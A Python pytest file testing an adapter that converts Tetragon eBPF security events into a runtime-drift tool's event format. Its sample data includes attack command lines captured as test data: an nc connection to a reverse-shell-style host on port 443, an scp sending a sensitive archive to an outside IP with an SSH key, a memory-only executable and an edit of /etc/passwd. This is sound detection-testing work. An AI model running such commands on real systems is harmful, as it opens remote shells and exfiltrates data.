"""Tetragon JSON export → external events: the real events in ../shared/samples/tetragon, and events
constructed in protojson's exact shape for what the samples lack (uint64s as strings, a memory-only
executable, a truncate hook), said so at each."""

from __future__ import annotations

import io
import json

import pytest
from tests.conftest import SHARED

from bindrift.schema.external_event import ExternalEvent, ExternalProcess, ToolVerdict
from bindrift.sensors.ingest.common import MalformedEventError
from bindrift.sensors.ingest.reader import read_events
from bindrift.sensors.ingest.tetragon import TetragonAdapter

SAMPLES = SHARED / "samples" / "tetragon"
SHIM = "/usr/bin/containerd-shim-runc-v2"


def test_testdata_events_every_field() -> None:
    adapter = TetragonAdapter()
    events = list(read_events(io.BytesIO((SAMPLES / "testdata-events.jsonl").read_bytes()), adapter))
    assert (adapter.stats.lines, adapter.stats.kept, adapter.stats.rejected) == (3, 3, 0)
    sandbox = "c97e298d5d4485f4710d3837b7d689aba6078e0c008af713053ac361cd8b0018"
    assert events[0] == ExternalEvent(
        tool="tetragon", kind="exec",
        time_ns=1666062978273546829,  # no top-level `time` in this event: the process start time stands in
        path="/usr/bin/netserver",
        process=ExternalProcess(pid=68790, vpid=1, comm="netserver", exe="/usr/bin/netserver",
                                args=["/usr/bin/netserver", "-D"], cwd="/", uid=0),
        parents=[ExternalProcess(pid=68598, comm="containerd-shim-runc-v2", exe=SHIM, uid=0,
                                 args=[SHIM, "-namespace", "k8s.io", "-id", sandbox, "-address",
                                       "/run/containerd/containerd.sock"],
                                 cwd=f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{sandbox}")],
        node="my-node", container_id="19a02291e106ce6227b684197be232ea57c4e1a5ab2604a12608c325d701c7f4",
        container_name="spaceship", image="docker.io/tgraf/netperf:latest",
        image_digest="sha256:8e86f744bfea165fd4ce68caa05abc96500f40130b857773186401926af7e9e6",
        pod="tiefighter", namespace="default", verdict=ToolVerdict(), source_event="process_exec",
        facts={"exec_id": "Z2tlLW1pY2hpLTIyMDM4LWRlZmF1bHQtcG9vbC00MzczMGZhYi1sOHpyOjEzNjY1ODIyNjI0ODU2OjY4Nzkw"},
    )  # fmt: skip
    assert [(e.path, e.pod, e.process.args, e.time_ns) for e in events[1:]] == [
        ("/starwars-docker", "deathstar-6f87496b94-qdlh8", ["/starwars-docker", "--port", "80", "--host", "0.0.0.0"],
         1666062981373327754),
        ("/starwars-docker", "deathstar-6f87496b94-gjf74", ["/starwars-docker", "--port", "80", "--host", "0.0.0.0"],
         1666062982225264791),
    ]  # fmt: skip
    # `process.docker` is cut to 31 characters; the full id comes from pod.container.id, prefix removed
    assert events[1].container_id == "16ecce28d6808e01f6b91f990b07616c0fc8dff67036231f9911191c7ff3d1cd"


def test_pretty_printed_book_events() -> None:
    """Each ebpf-book file is one pretty-printed event: execs kept, exits / connects / other kprobes filtered."""
    adapter = TetragonAdapter()
    kept = {p.name: adapter.feed(p.read_bytes()) for p in sorted((SAMPLES / "ebpf-book").glob("*.json"))}
    execs = {name: events[0] for name, events in kept.items() if events}
    assert len(kept) == 40 and len(execs) == 18 and all(e.kind == "exec" for e in execs.values())
    nc = execs["nc_process_exec.json"]
    assert nc == ExternalEvent(
        tool="tetragon", kind="exec", time_ns=1643738516411000000, path="/usr/bin/nc",
        process=ExternalProcess(pid=38314, vpid=192, comm="nc", exe="/usr/bin/nc", cwd="/usr/share/elasticsearch/",
                                args=["/usr/bin/nc", "raiz3gjkgtfhkkc.not-reverse-shell.com", "443"], uid=0),
        parents=[ExternalProcess(pid=38312, vpid=190, comm="sh", exe="/usr/bin/sh", cwd="/usr/share/elasticsearch/",
                                 args=["/usr/bin/sh", "lifecycle.sh"], uid=0)],
        node="minikube", container_id="e6af4dff4ea3b8d50313c59fbaa442e377da35671e79f43b8dc53c5efcc9b659",
        container_name="elasticsearch", image="quay.io/isovalent/jobs-app-elasticsearch:latest",
        image_digest="sha256:ff3aa5862fd17f8695984609743f4523188984adbcd25cf5ac4224b71084558c",
        pod="elasticsearch-56f8fc6988-65smb", namespace="tenant-jobs", source_event="process_exec",
        facts={"exec_id": "bWluaWt1YmU6MzM0OTc2NzgxOTUzNTozODMxNA=="},
    )  # fmt: skip
    # a quoted argument stays one argument
    assert execs["merlin-agent-scp-sh.json"].process.args == [
        "/bin/sh", "-c", "scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~"]  # fmt: skip
    # no pod: a host process (`docker` absent too)
    assert execs["merlin-agent-container-start-runc.json"].container_id == ""


def test_file_permission_kprobe_is_a_write() -> None:
    adapter = TetragonAdapter()
    events = adapter.feed((SAMPLES / "docs-content" / "filename-access-L123-process_kprobe.json").read_bytes())
    assert [(e.kind, e.path, e.process.exe, e.process.args, e.container_id[:12], e.source_event) for e in events] == [
        ("write", "/etc/passwd", "/bin/vi", ["/bin/vi", "/etc/passwd"], "6b742e38ee3a",
         "process_kprobe security_file_permission"),
    ]  # fmt: skip
    assert events[0].facts["function_name"] == "security_file_permission"
    assert events[0].time_ns == 1713061094376304204


# Constructed in protojson's shape (uint64 as strings, zero values omitted): a memory-only executable
# (binary_properties.file.inode.links 0), a truncate hook, and a read-only permission check.
MEMFD_EXEC = {"process_exec": {"process": {
    "exec_id": "bm9kZS1hOjkxMjM0NTY3ODk6NDgyMTE=", "pid": 48211, "uid": 0, "cwd": "/tmp",
    "binary": "/memfd:x (deleted)",
    "start_time": "2026-07-11T09:44:58.682419669Z", "auid": 4294967295, "in_init_tree": False,
    "binary_properties": {"file": {"inode": {"number": "18446744073709551615", "links": "0"}, "path": "/memfd:x"}},
    "pod": {"namespace": "shop", "name": "web", "container": {"id": "cri-o://" + "AB" * 32, "name": "web", "pid": 57,
            "image": {"id": "nginx@sha256:" + "d9" * 32, "name": "nginx:1.27"}}}}},
    "node_name": "node-a", "time": "2026-07-11T09:44:58.682419669Z"}  # fmt: skip


def test_memory_only_exec_and_string_uint64s() -> None:
    event = TetragonAdapter().feed(json.dumps(MEMFD_EXEC).encode())[0]
    assert event.verdict == ToolVerdict(drift="memfd", field="binary_properties.file.inode.links=0")
    assert event.facts == {"exec_id": "bm9kZS1hOjkxMjM0NTY3ODk6NDgyMTE=", "in_init_tree": False,
                           "binary_properties.file.inode.links": 0}  # fmt: skip
    assert (event.container_id, event.image_digest, event.process.vpid) == ("ab" * 32, "sha256:" + "d9" * 32, 57)
    assert event.process.args == ["/memfd:x (deleted)"]  # no `arguments`: omitted as empty


def test_write_hooks_and_filtered_kprobes() -> None:
    process = {"pid": "7", "binary": "/bin/sh", "start_time": "2026-07-11T09:44:58Z"}
    truncate = {
        "process_kprobe": {
            "process": process,
            "function_name": "security_path_truncate",
            "args": [{"path_arg": {"path": "/usr/bin/ls"}}],
        },
        "time": "2026-07-11T09:44:59Z",
    }
    read_only = {
        "process_kprobe": {
            "process": process,
            "function_name": "security_file_permission",
            "args": [{"file_arg": {"path": "/etc/passwd"}}, {"int_arg": "4"}],
        }
    }
    exit_event = {"process_exit": {"process": process, "signal": "SIGKILL"}, "time": "2026-07-11T09:44:59Z"}
    adapter = TetragonAdapter()
    lines = b"\n".join(json.dumps(e).encode() for e in (truncate, read_only, exit_event))
    events = list(read_events(io.BytesIO(lines), adapter))
    assert [(e.kind, e.path, e.process.pid, e.time_ns) for e in events] == [
        ("write", "/usr/bin/ls", 7, 1783763099000000000)]  # fmt: skip
    assert (adapter.stats.lines, adapter.stats.kept, adapter.stats.rejected) == (3, 1, 0)


def test_malformed_events_rejected() -> None:
    adapter = TetragonAdapter()
    bad_pid = b'{"process_exec": {"process": {"binary": "/x", "pid": [1]}}, "time": "2026-01-01T00:00:00Z"}'
    for line in (b"{", b'{"process_exec": {}}', b'{"process_exec": {"process": {"binary": "/x"}}}', bad_pid):
        with pytest.raises(MalformedEventError):
            adapter.feed(line)


def test_raw_filter_counts_as_the_decode_does() -> None:
    """Every sample event, compact: what the raw-byte filter drops (exits, connects, kprobes on other hooks),
    the full decode drops too, counted as the same kind."""
    from bindrift.sensors.ingest import tetragon

    paths = sorted(SAMPLES.glob("ebpf-book/*.json")) + sorted(SAMPLES.glob("docs-content/*.json"))
    lines = [json.dumps(json.loads(p.read_bytes()), separators=(",", ":")).encode() for p in paths]
    dropped = 0
    for line in lines:
        label = tetragon._filtered_raw(line)
        if not label:
            continue
        dropped += 1
        adapter = TetragonAdapter()
        spaced = b" " + json.dumps(json.loads(line)).encode()  # the raw filter leaves this one to the decode
        assert not tetragon._filtered_raw(spaced) and adapter.feed(spaced) == [], line
        assert adapter.stats.ignored == {label: 1}, (line[:200], label)
    assert dropped >= 30, "exits, connects, closes, listens and the other kprobes are dropped on their bytes"
